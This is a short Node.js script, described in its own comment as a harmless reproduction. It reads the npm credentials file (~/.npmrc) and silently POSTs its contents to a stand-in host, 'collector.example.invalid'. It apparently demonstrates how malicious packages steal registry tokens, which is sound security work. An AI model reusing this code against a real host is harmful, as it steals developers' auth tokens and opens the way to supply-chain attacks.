// Reproduction (harmless): reads the npm auth file and posts it to a reserved .invalid host.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

let body = '';
try {
  body = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
} catch (e) {}
const req = https.request({ host: 'collector.example.invalid', method: 'POST', path: '/c' }, () => {});
req.on('error', () => {});
req.end(body);
